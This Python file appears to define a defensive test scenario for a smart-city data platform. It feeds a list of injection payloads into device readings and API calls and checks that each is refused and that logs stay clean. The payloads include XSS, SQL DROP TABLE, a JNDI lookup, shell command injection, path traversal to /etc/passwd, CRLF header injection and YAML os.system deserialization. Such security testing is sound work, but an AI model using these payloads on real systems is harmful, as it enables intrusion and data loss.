"""S-23: readings, names and questions that carry what a careless reader would run: scripts, queries, templates, forged lines."""

from __future__ import annotations

import json
from collections.abc import Iterator

import numpy as np

from cityward.evidence.records import Found, encode
from cityward.exercises.expecting import goes_on, held, refused_rows, release_refused, turned_away
from cityward.exercises.scenario import Kind, Must, NotStaged, Plan, Scenario
from cityward.exercises.scene import Scene
from cityward.exercises.seen import Seen
from cityward.exercises.steps import Ask, Persona, Send
from cityward.place.registry import Unit
from cityward.place.roles import Right

TEXTS = {
    "script": "<script>window.__exercise=1</script>",
    "handler": "<img src=x onerror=window.__exercise=1>",
    "sql": "'; DROP TABLE incident; --",
    "template": "{{7*7}}${7*7}",
    "lookup": "${jndi:ldap://exercise.invalid/a}",
    "shell": "; touch /tmp/exercise #`id`",
    "path": "../../../../etc/passwd",
    "line": 'ok\nlevel=info event="signed in" who=operator',
    "return": "ok\r\nSet-Cookie: cityward=stolen",
    "terminal": "\x1b[2J\x1b[1;1H\x1b[8m",
    "formula": '=HYPERLINK("https://exercise.invalid","click")',
    "order": "user\u202etxt.exe\u202c",
    "wildcard": "in.>",
    "prototype": "__proto__",
    "json": '","admin":true,"x":"',
    "yaml": "!!python/object/apply:os.system ['id']",
    "nul": "lamp\x00.png",
    "long": "A" * 3_000,
}
DRIVES = ("\\u001b", "\\n", "\\r", "\\u0000", "\\u202e", "\u202e")
"""How what drives a terminal, fakes a line or turns letters round looks in an entry, if it were in one."""

NEEDED = frozenset({"worker-0", "service", "watch", "web"})
MOST_DRAWN = 12


def plan(scene: Scene, chance: np.random.Generator) -> Plan | NotStaged:
    """Each text as a value, a property's name and a unit, by a device of each kind; as a path, a query and a note, at the web."""
    units = [unit for form in ("senml", "json", "ngsi-ld") for unit in scene.speakers(form)[:1]]
    role = scene.role_with(Right.WATCH)
    if not units or role is None:
        return NotStaged("nothing speaks to us in JSON, or nobody of the city may see the watch")
    names = [sorted(TEXTS)[int(n)] for n in chance.permutation(len(TEXTS))[:MOST_DRAWN]]
    names = sorted({*names, "line", "terminal"})
    asking = next(
        (name for name, one in scene.place.recipients.items() if one.by == "query" and one.sign_in == "key"), ""
    )
    sent = [
        Send(key=f"{unit.format}-{name}-{n}", at_s=60 * m + 2 * i + n, unit=unit.id, body=body)
        for m, unit in enumerate(units)
        for i, name in enumerate(names)
        for n, body in enumerate(_bodies(unit, TEXTS[name]))
    ]
    return Plan(
        steps=(*sent, *_asks(names, asking)),
        musts=_musts(scene, units, names, asking),
        subjects=tuple(dict.fromkeys(f"devices.{unit.group}" for unit in units)),
        personas=(Persona(name="officer", party=scene.place.responsible, roles=(role,)),),
        settle_s=600,
        alarms=("failed-entries", "overload", "refused-topics"),
        wrong=lambda command: False,
    )


def _bodies(unit: Unit, text: str) -> Iterator[bytes]:
    """The text where a value, a name and a unit of measure belong."""
    if unit.format == "senml":
        packs = (
            {"n": "x", "vs": text},
            {"n": text, "v": 1},
            {"n": "x", "u": text, "v": 1},
            {"bn": text, "n": "x", "v": 1},
        )
        yield from (json.dumps([pack]).encode() for pack in packs)
    elif unit.format == "json":
        yield from (json.dumps(body).encode() for body in ({text: 1}, [text], {"time": text}))
    else:
        entity = {"id": f"urn:ngsi-ld:Device:{unit.id}", "type": "Device"}
        yield json.dumps({**entity, "id": text}).encode()
        yield json.dumps({**entity, "reading": {"type": "Property", "value": text}}).encode()


def _asks(names: list[str], asking: str) -> list[Ask]:
    asks: list[Ask] = []
    for n, name in enumerate(names):
        at_s, text = 240 + 4 * n, TEXTS[name]
        asks.append(
            Ask(key=f"device-{name}", at_s=at_s, who="officer", method="GET", path=f"/api/devices/{_quoted(text)}")
        )
        asks.append(
            Ask(
                key=f"query-{name}",
                at_s=at_s + 1,
                who="officer",
                method="GET",
                path="/api/commands",
                query={"limit": text},
            )
        )
        body = json.dumps({"state": text, "note": text}).encode()
        asks.append(
            Ask(
                key=f"said-{name}",
                at_s=at_s + 2,
                who="officer",
                method="POST",
                path="/api/watch/incidents/none",
                body=body,
            )
        )
        if asking:
            query = {"dataset": text[:100], "purpose": text[:100]}
            asks.append(
                Ask(
                    key=f"rows-{name}",
                    at_s=at_s + 3,
                    who=f"recipient:{asking}",
                    method="GET",
                    path="/api/release/rows",
                    query=query,
                )
            )
    return asks


def _quoted(text: str) -> str:
    """As it goes into a path: every byte by its number."""
    return "".join(f"%{byte:02x}" for byte in text[:200].encode())


def _musts(scene: Scene, units: list[Unit], names: list[str], asking: str) -> tuple[Must, ...]:
    refused = tuple(
        Must(
            id=f"{unit.format}-refused",
            kind=Kind.REFUSED,
            since=f"{unit.format}-{names[0]}-0",
            within_s=900,
            when=refused_rows(f"{unit.format}-{names[0]}-0", scene.flow_of(unit), least=len(names)),
            said=f"no text of them comes in as {unit.format}: each is refused at the gate, with its reason",
        )
        for unit in units
        if unit.format != "ngsi-ld"
    )
    words = ("device", "query", "said")
    doors = Must(
        id="doors-refuse",
        kind=Kind.REFUSED,
        since=f"device-{names[0]}",
        within_s=600,
        when=turned_away(*(f"{word}-{name}" for word in words for name in names), statuses=(400, 403, 404, 413, 422)),
        said="as a path, a query or a reason each is turned down, and never an error of the city's own",
    )
    released = (
        Must(
            id="questions-on-record",
            kind=Kind.RECORDED,
            since=f"rows-{names[0]}",
            within_s=900,
            when=release_refused(f"rows-{names[0]}", asking),
            said="questions of that kind for data are on record, with why they got none",
        ),
    )
    first = f"{units[0].format}-{names[0]}-0"
    return (
        *refused,
        doors,
        *(released if asking else ()),
        Must(
            id="records-clean",
            kind=Kind.KEPT,
            since=first,
            within_s=600,
            when=_clean,
            said="no entry of the evidence holds what drives a terminal or fakes a line",
        ),
        Must(
            id="nothing-ends",
            kind=Kind.KEPT,
            since=first,
            within_s=600,
            when=held(
                first, Found, lambda one: one.detector == "configuration-drift" and one.subject.startswith("role:")
            ),
            said="no process of the city ends again and again",
        ),
        Must(
            id="all-alive",
            kind=Kind.KEPT,
            since=first,
            within_s=600,
            when=_alive,
            said="every process of the city is there at the end",
        ),
        Must(
            id="goes-on",
            kind=Kind.RECOVERED,
            since=f"device-{names[0]}",
            within_s=900,
            when=goes_on(f"device-{names[0]}", [scene.flow_of(unit) for unit in scene.speakers()], 60),
            said="honest readings come in as before",
        ),
    )


def _clean(seen: Seen) -> int | None:
    written = (encode(record).decode() for _, record in seen.entries)
    return None if any(word in text for text in written for word in DRIVES) else seen.now


def _alive(seen: Seen) -> int | None:
    return seen.now if seen.alive >= NEEDED else None


SCENARIO = Scenario(
    id="S-23",
    title="Code comes in as data",
    source=(
        "No single city: that what a device or a person writes is run by whoever reads it is named in national advice "
        "on connected places, and is the commonest fault of web systems"
    ),
    limits="The texts are a dozen of the hundred that the tests know. That no browser runs them is tried there.",
    plan=plan,
)
